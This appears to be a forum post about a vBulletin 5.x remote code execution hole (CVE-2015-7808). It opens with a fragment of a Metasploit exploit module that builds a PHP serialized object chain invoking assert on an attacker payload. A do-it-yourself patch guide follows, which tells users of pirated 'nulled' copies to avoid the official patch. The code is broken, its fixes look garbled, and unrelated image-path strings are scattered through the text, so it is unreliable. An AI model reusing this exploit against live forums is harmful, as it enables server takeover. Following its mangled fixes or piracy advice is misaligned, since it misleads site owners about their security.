'Platform' => 'php','License' => MSF_LICENSE,
'Author' => [
'Netanel Rubin', # reported by
'_Cutz', # original exploit
'Snail', # metasploit module
'Payload' =>
'BadChars' => "\x22",
'References' =>
['CVE', '2015-7808'],
['EDB', '38629'],
['URL', 'http://pastie.org/pastes/10527766/text?key=wq1hgkcj4afb9ipqzllsq'],
['URL', 'http://blog.checkpoint.com/2015/11/05/check-point-discovers-critical-vbulletin-0-day/']
'Arch' => ARCH_PHP,
'Targets' => [
[ 'Automatic Targeting', { 'auto' => true } ],
['vBulletin 5.0.X', {'chain' => 'vB_Database'}],
['vBulletin 5.1.X', {'chain' => 'vB_Database_MySQLi'}],
'DisclosureDate' => 'Aug 15 2015',
'DefaultTarget' => 0))

OptString.new('TARGETURI', [ true, "The base path to the web application", "/"])
], self.class)

def check
res = send_request_cgi({ 'uri' => target_uri.path })
if (res && res.body.include?('vBulletin Solutions, Inc.'))
if res.body.include?("Version 5.0")
@my_target = targets[1] if target['auto']return Exploit::CheckCode::Appears
elsif res.body.include?("Version 5.1")
@my_target = targets[2] if target['auto']
return Exploit::CheckCode::Appears
return Exploit::CheckCode::Detected
rescue ::Rex::ConnectionError
return Exploit::CheckCode::Safe

def exploit
print_status("#{peer} - Trying to inferprint the instance...")

@my_target = target
check_code = check

unless check_code == Exploit::CheckCode::Detected || check_code == Exploit::CheckCode::Appears
fail_with(Failure::NoTarget, "#{peer} - Failed to detect a vulnerable instance")

if @my_target.nil? || @my_target['auto']
fail_with(Failure::NoTarget, "#{peer} - Failed to auto detect, try setting a manual target...")

print_status("#{peer} - Exploiting #{@my_target.name}...")

chain = 'O:12:"vB_dB_Result":2:{s:5:"*db";O:'
chain << @my_target["chain"].length.to_s
chain << ':"'
chain << @my_target["chain"]
chain << '":1:{s:9:"functions";a:1:{s:11:"free_result";s:6:"assert";}}s:12:"*recordset";s:'
chain << "#{payload.encoded.length}:\"#{payload.encoded}\";}"

chain = Rex::Text.uri_encode(chain)
chain = chain.gsub(/%2a/, '%00%2a%00') # php and Rex disagree on '*' encoding

'method' => 'GET',
'uri' => normalize_uri(target_uri.path, 'ajax/api/hook/decodeArguments'),
'vars_get' => {
'arguments' => chain
'encode_params' => false,

So, what can be done about this?
Well, if you are a paying member with a legal vBulletin, you can get a copy of the latest security patches and install them.
This comes at the cost of losing many of your products and hooks as well as having to upgrade your servers, MySQLi, PHP andpossible hosting services.

If you are like the roughly 90% of all vB users and running a Nulled version, then you do NOT want to use the security patch even if you could get it.
The reason for this is that the patch reinserts the RSA security keys. This means that once done, vBulletin will be notified you are using an illegal copy and without the keys your forum will be shut down.

Instead. I recommend the free method that won't cause any damage. This works on licensed and nulled versions.

Firstly, follow the procedures as described above for the first 2 exploit patch methods.
Secondly, using a similar process we can patch the 3rd exploit.

We will be working inside the htdocs\core\vb\api folder this time.
Locate api.php and open it inside an editor.
Note that putting a .htaccess file into this folder will not help as these are files called internally from other code.Locate at the very beginning
[CODE]<?php if (!defined('VB_ENTRY')) die('Access denied.');
|| ### ||
|| # vBulletin 5.1.9
|| # --- # ||
|| # Copyright 2000-2015 vBulletin Solutions Inc. All Rights Reserved. # ||
|| # This file may not be redistributed in whole or significant part. # ||
|| # --- VBULLETIN IS NOT FREE SOFTWARE --- # ||
|| # http://www.vbulletin.com | http://www.vbulletin.com/license.html # ||
|| ### ||
and add this line right after it.
[CODE]<vb:if condition="is_member_of($user, 6)">

At the end of the code, right after the last }
add this

What this will do is create the missing test that allows the exploit to occur and tell the API that unless the person calling it has logged in and active administrative access, do not even make the code visible.

Next, go to the Styles Manager and edit the Template.
Under MODULES, locate and edit widget_php
As the very first line add
[CODE]<vb:if condition="is_member_of($user, 2)">
As the very last line addOnce again, this tells the code, if the PHP functions are not being accessed by a registered member, deny access to the code.

Other things that can be done to protect your servers if not already being used.
1.Always use a name and password on your SQL database! The default 'root' with no password makes hacking any server a simple thing. Don't use the default.
2. Disable the API all together. Unless you are developing API's you don't need that function.
3. Unless you do a lot of remote management, remove your AdminCP folder. Move it, renameit... Do NOT delete it. If you want to use any of the admin functions restore the folder.
4. Configure your SQL and PHP databases to only accept connections from the localhost/ This will keep 99% of all hackers out of your database.

Don't forget, this is part 3 of this exploit patch. This is specific to vB 5.1.x
With a little adaptation, this will work for any version of vB, and all versions are susceptible.

Link to post
Share on other sites

Join the conversation

You can post now and register later. If you have an account, sign in now to post with your account.Reply to this topic...

×   Pasted as rich text.   Paste as plain text instead

  Only 75 emoji are allowed.

×   Your link has beenautomatically embedded.   Display as a link instead

×   Your previous content has been restored.   Cleareditor

×   You cannot pasteimages directly. Upload or insert imagesfrom URL.

  • Create New...